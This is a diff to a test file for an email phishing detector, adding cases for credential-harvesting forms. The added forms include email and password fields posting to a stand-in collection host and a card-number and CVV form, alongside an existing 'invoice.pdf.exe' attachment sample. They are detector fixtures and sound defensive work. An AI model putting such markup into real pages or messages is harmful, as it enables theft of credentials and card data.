@@ -48,6 +48,11 @@ CASES = [
      "Remittance_Advice.htm", ["Remittance_Advice"]),
     ("risky_attachment", message(attachments=(("invoice.pdf.exe", "application/octet-stream", b"MZ"),)),
      "invoice.pdf.exe", []),
+    ("credential_form", message(html='<form action="https://collect.example-login.top/p.php"><input type="email" '
+                                'name="u"><input type="password" name="pw"></form>'),
+     "collect.example-login.top", ["form", "email"]),
+    ("credential_form", message(html='<form><label>Card</label><input name="card_number"><input name="cvv"></form>'),
+     "card_number", ["sends to"]),
 ]
 
 
@@ -86,6 +91,8 @@ REJECTED = [
     ("oauth_consent_lure", message(html='<a href="https://login.microsoftonline.com/common/login">Sign in</a>'),
      "login.microsoftonline.com"),
     ("risky_attachment", message(attachments=(("statement.pdf", "application/pdf", b"%PDF"),)), "statement.pdf"),
+    ("credential_form", message(html='<form action="https://www.contoso-foods.com/search"><input name="q"></form>'),
+     "www.contoso-foods.com"),  # a form that asks for no secret
 ]
 
 
